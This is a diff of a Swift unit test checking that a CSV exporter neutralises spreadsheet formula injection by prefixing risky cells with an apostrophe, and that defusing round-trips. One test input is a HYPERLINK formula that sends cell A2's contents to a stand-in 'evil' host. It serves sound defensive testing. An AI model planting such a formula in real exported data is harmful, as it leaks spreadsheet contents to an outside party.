@@ -62,11 +62,13 @@ import Testing
   @Test(arguments: [
     ("=1+1", "'=1+1"), ("+49", "'+49"), ("-x", "'-x"), ("@bob.test", "'@bob.test"), ("＝1", "'＝1"),
     (#"=HYPERLINK("https://evil/?"&A2,"x")"#, #""'=HYPERLINK(""https://evil/?""&A2,""x"")""#),
-    ("\t=1", "'\u{FFFD}=1"), ("\r=1", "'\u{FFFD}=1"), ("a=1", "a=1"), ("bob.test", "bob.test"),
+    ("\t=1", "'\u{FFFD}=1"), ("\r=1", "'\u{FFFD}=1"), ("'=1", "''=1"), ("a=1", "a=1"),
+    ("bob.test", "bob.test"),
   ])
   func cellsThatASpreadsheetWouldRunAreDefused(cell: String, defused: String) {
     #expect(lines([Row(text: cell)], .csv(raw: false)) == [defused + ",,,"])
     let raw = defused.replacing("'", with: "", maxReplacements: 1)
+    #expect(SpreadsheetFormula.undefused(SpreadsheetFormula.defused(cell)) == cell)
     #expect(lines([Row(text: cell)], .csv(raw: true)) == [raw + ",,,"])
   }
 
